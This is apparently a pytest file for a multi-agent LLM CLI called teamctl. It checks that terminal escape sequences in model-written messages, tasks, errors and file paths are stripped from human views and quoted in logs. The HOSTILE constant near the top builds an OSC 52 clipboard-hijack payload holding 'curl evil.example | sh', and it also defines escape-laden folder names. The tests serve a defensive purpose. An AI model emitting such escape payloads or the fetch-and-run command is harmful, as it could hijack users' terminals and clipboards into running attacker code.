"""Injection: a model cannot rewrite the user's terminal. Models write escape sequences (a screen
clear, an OSC 52 clipboard write, a title change), a bell and carriage-return overwrites into a
message, an output, a task's text, an error, a file's path and a tool's exception; every human
view of the CLI prints their text without any of it, while `--json` keeps it (escaped), and the
log lines of `teamctl worker` and `teamctl lead` quote it escaped. The agents run on the marked
workers (or a `teamctl worker` of the test's own), and the marker secret in their environment
never leaves them."""

from __future__ import annotations

import base64
import json
import logging
import os
import signal
import subprocess
import uuid
from pathlib import Path
from typing import Any

import pytest
import redis
from click.testing import CliRunner, Result
from teamctl.coordinator.cli import main
from teamctl.shared.agent.llm import load_litellm
from teamctl.shared.bus import LEAD
from teamctl.shared.keys import KeySpace, RunKeys
from teamctl.shared.process.log_lines import LITELLM_LOGGERS, PrintableFormatter, StderrHandler
from teamctl.shared.runs.store import RunStore
from teamctl.shared.teams.options import TeamOptions
from teamctl.shared.teams.team_store import TeamStore
from teamctl.shared.teams.teammates import TeammateStatus
from teamctl.shared.workspace.redis_files import WorkspaceFiles

from tests.support.cli import TEAMCTL, run_cli
from tests.support.injection import MARKED_QUEUE, MarkedWorkers, assert_marker_kept
from tests.support.llm import Held, HttpError, ScriptedLLM, ToolCalls, release_when
from tests.support.teamfile import team_file
from tests.support.teams import cli, lead_args
from tests.support.waiting import wait_until

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
HOSTILE = "\x1b[2J\x1b[Hseen" + CLIPBOARD + " text\rall tests passed\x07\x1b]0;pwned\x1b\\ end"
"""Clear the screen, write the clipboard, overwrite the line, ring, retitle the window."""
SHOWN = "seen text all tests passed  end"
"""What a person sees of it: the words, with spaces for the carriage return and the bell."""
ONE_LINE = " ".join(SHOWN.split())
"""As a one-line view (a list, a table) shows it."""
CONTROL = ("\x1b", "\x07", "\r", "\x9b")
FOLDER = "report\x1b[2J\x1b]0;pwned\x07\x9b"
"""A directory a model named: a screen clear, a title change ended by a bell, a C1 CSI."""


def assert_printable(result: Result) -> None:
    """Neither stream holds an escape, a bell or a carriage return (line ends are \\n)."""
    for stream in (result.stdout, result.stderr):
        assert not [c for c in CONTROL if c in stream], repr(stream)


def run_team(path: Path, models: dict[str, str]) -> Path:
    """Two members, planner and synthesizer, every one of them on the marked workers."""
    queue = f'queue = "{MARKED_QUEUE}"'
    path.write_text(
        "\n".join(
            [
                'team_id = "terminal"',
                f'planner = {{ model = "{models["planner"]}", {queue} }}',
                f'synthesizer = {{ model = "{models["synth"]}", {queue} }}',
                "[[members]]",
                'id = "m1"',
                f'model = "{models["m1"]}"',
                queue,
                "[[members]]",
                'id = "m2"',
                f'model = "{models["m2"]}"',
                queue,
                "[options]",
                "max_attempts = 1",
                "model_max_retries = 0",
            ]
        )
        + "\n"
    )
    return path


def test_no_model_text_acts_on_the_terminal_in_the_run_views(
    llm: ScriptedLLM, marked_workers: MarkedWorkers, run_id: str, tmp_path: Path
) -> None:
    url = marked_workers.redis_url
    plan = {
        "tasks": [
            {"id": "collect", "memberId": "m1", "task": f"Collect {HOSTILE}"},
            {"id": "check", "memberId": "m2", "task": "Check it"},
        ]
    }
    models = {
        "planner": llm.script(f"plan-{run_id}", [json.dumps(plan)]),
        "m1": llm.script(
            f"m1-{run_id}",
            [
                ToolCalls([("team_send_message", {"toMemberId": "m2", "content": HOSTILE})]),
                f"output {HOSTILE}",
            ],
        ),
        "m2": llm.script(f"m2-{run_id}", [HttpError(400, f"bad request {HOSTILE}")]),
        "synth": llm.script(f"synth-{run_id}", [f"answer {HOSTILE}"]),
    }
    team = run_team(tmp_path / "team.toml", models)

    ran = CliRunner().invoke(
        main,
        [
            "run",
            "Collect and check",
            "--team",
            str(team),
            "--api-base",
            llm.api_base,
            "--redis-url",
            url,
            "--workers",
            "0",
            "--run-id",
            run_id,
            "--approve-plan",
        ],
    )

    assert ran.exit_code != 0, ran.output  # m2 failed: a partial answer
    assert_printable(ran)
    assert ran.stdout == f"answer {SHOWN}\n"
    assert "task check (m2) failed after 1 attempt: " in ran.stderr
    views = {
        verb: CliRunner().invoke(main, [verb, run_id, "--redis-url", url])
        for verb in ("status", "tasks", "messages", "events")
    }
    views["tasks --follow"] = CliRunner().invoke(
        main, ["tasks", run_id, "--follow", "--redis-url", url]
    )
    views["runs"] = CliRunner().invoke(main, ["runs", "--redis-url", url, "--limit", "200"])
    for verb, shown in views.items():
        assert shown.exit_code in (0, 1), (verb, shown.output)
        assert_printable(shown)
    assert f"answer {SHOWN}" in views["status"].stdout
    assert "bad request seen text" in views["status"].stdout  # m2's error, in the task table
    assert f"m1 -> m2: {SHOWN}" in views["messages"].stdout
    assert f"m1 -> m2: {SHOWN}" in views["events"].stdout
    # The JSON keeps the text as the model wrote it, escaped.
    as_json = CliRunner().invoke(main, ["messages", run_id, "--redis-url", url, "--json"])
    contents = [json.loads(line)["content"] for line in as_json.stdout.splitlines()]
    assert HOSTILE in contents and "\x1b" not in as_json.stdout
    assert_marker_kept(
        llm,
        redis.Redis.from_url(url),  # bytes: RQ's job data is binary
        [tmp_path / "state", marked_workers.log_dir],
    )


class Lead:
    """The lead's model: put a task with a hostile subject on the board, then answer with the
    same text to every later call (the teammate's mail wakes it once more)."""

    def __call__(self, body: dict[str, Any]) -> ToolCalls | str:
        if not any(m.get("role") == "tool" for m in body["messages"]):
            return ToolCalls(
                [
                    ("create_task", {"subject": f"Write {HOSTILE}", "role": f"nobody{HOSTILE}"}),
                    ("no_such_tool" + HOSTILE, {}),
                ]
            )
        return f"lead says {HOSTILE}"


def test_no_model_text_acts_on_the_terminal_in_the_team_views(
    llm: ScriptedLLM, marked_workers: MarkedWorkers, team: str, tmp_path: Path
) -> None:
    url = marked_workers.redis_url
    conn = redis.Redis.from_url(url, decode_responses=True)
    eve = llm.script(
        f"eve-{team}",
        [ToolCalls([("send_message", {"to": LEAD, "content": HOSTILE})]), f"done {HOSTILE}"],
    )
    lead = llm.script(f"lead-{team}", handler=Lead())
    store = TeamStore(conn, team)
    store.spawn(
        "eve", role="scout", prompt="Report.", model=eve, api_base=llm.api_base, queue=MARKED_QUEUE
    )
    wait_until(lambda: store.get("eve").status is TeammateStatus.IDLE, 60, message="eve idle")
    shown_mail = cli("team", "inbox", LEAD, "-t", team, "--redis-url", url)

    led = cli(
        "lead",
        "-t",
        team,
        "--redis-url",
        url,
        "--workers",
        "0",
        "--model",
        lead,
        "--api-base",
        llm.api_base,
        "-m",
        "Plan the work.",
        "--until-idle",
    )

    assert led.exit_code == 0, led.output
    assert_printable(led)
    assert f"lead says {SHOWN}" in led.stdout
    assert "teamctl lead: create_task: ok" in led.stderr
    views = {
        "inbox": shown_mail,
        "repl": CliRunner().invoke(
            main,
            [
                "lead",
                "-t",
                team,
                "--redis-url",
                url,
                "--workers",
                "0",
                "--model",
                lead,
                "--api-base",
                llm.api_base,
            ],
            input="/team\n/inbox\n/tasks\n/requests\n/quit\n",
        ),
    }
    for verb in (["list"], ["messages"], ["task", "list"], ["requests"]):
        views[" ".join(verb)] = cli("team", *verb, "-t", team, "--redis-url", url)
    for verb, shown in views.items():
        assert shown.exit_code == 0, (verb, shown.output)
        assert_printable(shown)
    assert f"\teve\tlead\tpeer.message\t{ONE_LINE}\n" in views["inbox"].stdout
    assert f"eve -> lead: {SHOWN}" in views["messages"].stdout
    assert f"Write {ONE_LINE}" in views["task list"].stdout
    assert f"Write {ONE_LINE}" in views["repl"].stdout
    assert_marker_kept(
        llm,
        redis.Redis.from_url(url),  # bytes: RQ's job data is binary
        [tmp_path / "state", marked_workers.log_dir],
    )


def plant_file_in_a_folders_way(conn: redis.Redis, keys: KeySpace) -> None:
    """Save FOLDER/notes.txt, then FOLDER as a file, to a workspace kept in Redis: a mirror
    makes the folder first, so the file named like it cannot be put there, and is logged."""
    files = WorkspaceFiles(conn, keys)
    for path in (f"{FOLDER}/notes.txt", FOLDER):
        files.save(path, 0, b"written elsewhere")
    files.close()


def assert_quoted_in_log(log: str, *texts: str) -> None:
    """`log` holds no control character, and each text as repr() quotes it: it was logged."""
    assert not [c for c in CONTROL if c in log], repr(log)
    for text in texts:
        assert repr(text) in log, (text, log)


def test_no_model_text_acts_on_the_terminal_through_a_workers_log(
    llm: ScriptedLLM, redis_url: str, run_id: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A member's mirror cannot put a file a model named with escapes, and its Python tool
    raises with the model's escapes: `teamctl worker` logs both, quoted, and RQ's own lines
    once each."""
    queue = f"esc-{uuid.uuid4().hex[:8]}"
    monkeypatch.setenv("TEAMCTL_WORKSPACE_STORE", "redis")
    conn = redis.Redis.from_url(redis_url)
    reason = f"bad input {HOSTILE}"
    plan = Held(json.dumps({"tasks": [{"id": "a", "memberId": "m1", "task": "Use the tool"}]}))
    models = {
        "planner": llm.script(f"plan-{run_id}", [plan]),
        "member": llm.script(
            f"member-{run_id}", [ToolCalls([("explode", {"reason": reason})]), "it exploded"]
        ),
        "synth": llm.script(f"synth-{run_id}", ["done"]),
    }
    team = team_file(
        tmp_path / "t.toml",
        models,
        queue=queue,
        members=[{"id": "m1", "queue": queue, "tools": ["tests.pytools_fixture.tools:explode"]}],
    )

    def planted() -> bool:  # before the member's mirror opens: the plan waits for it
        if not RunStore(conn, RunKeys(run_id)).exists():
            return False
        plant_file_in_a_folders_way(conn, RunKeys(run_id))
        return True

    release_when(plan, planted)
    worker = subprocess.Popen(
        [*TEAMCTL, "worker", queue, "--redis-url", redis_url],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    try:
        ran = run_cli(llm, redis_url, run_id, team)
    finally:
        os.kill(worker.pid, signal.SIGTERM)  # RQ's warm shutdown: it is idle by now
        out, err = worker.communicate(timeout=60)

    assert ran.exit_code == 0, ran.output
    assert json.loads(ran.stdout)["output"] == "done"
    assert out == ""  # every log line goes to stderr, RQ's too
    assert_quoted_in_log(err, FOLDER, f"exploded: {reason}")
    assert f"workspace file {FOLDER!r} not materialized: {FOLDER!r} is a directory" in err
    assert err.count("started with PID") == 1 and err.count(f"Listening on {queue}") == 1


def test_no_model_text_acts_on_the_terminal_through_the_leads_log(
    llm: ScriptedLLM, redis_url: str, team: str
) -> None:
    """The lead's mirror of the team's workspace cannot put a file a model named with escapes:
    `teamctl lead` logs it, quoted, like its other lines."""
    conn = redis.Redis.from_url(redis_url)
    store = TeamStore(
        redis.Redis.from_url(redis_url, decode_responses=True), team, workspace_store="redis"
    )
    store.create(TeamOptions(lead_tools=["read_file"]))
    plant_file_in_a_folders_way(conn, store.keys)
    lead = llm.script(f"lead-{team}", ["noted"])

    led = subprocess.run(
        [*TEAMCTL, *lead_args(redis_url, team, lead, llm.api_base, "-m", "Anything new?")],
        capture_output=True,
        text=True,
        timeout=120,
        stdin=subprocess.DEVNULL,
    )

    assert led.returncode == 0, led.stderr
    assert led.stdout == "noted\n"
    assert_quoted_in_log(led.stderr, FOLDER)
    assert (
        f"teamctl: workspace file {FOLDER!r} not materialized: {FOLDER!r} is a directory"
        in led.stderr.splitlines()
    )


def test_litellms_records_reach_the_printable_log_lines_once(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """litellm brings a stderr handler of its own: in a process that logs through teamctl's
    (the CLI, a worker), loading litellm takes it off, so its records are printable and once."""
    root = logging.getLogger()
    handler = StderrHandler()
    handler.setFormatter(PrintableFormatter("%(name)s: %(message)s"))
    root.addHandler(handler)  # as log_to_stderr does where nothing else handles the root
    try:
        load_litellm()
        logging.getLogger("LiteLLM").warning("the provider said %s", HOSTILE)
    finally:
        root.removeHandler(handler)

    assert capsys.readouterr().err == f"LiteLLM: the provider said {SHOWN}\n"
    for name in LITELLM_LOGGERS:
        assert [
            h for h in logging.getLogger(name).handlers if isinstance(h, logging.StreamHandler)
        ] == [], name
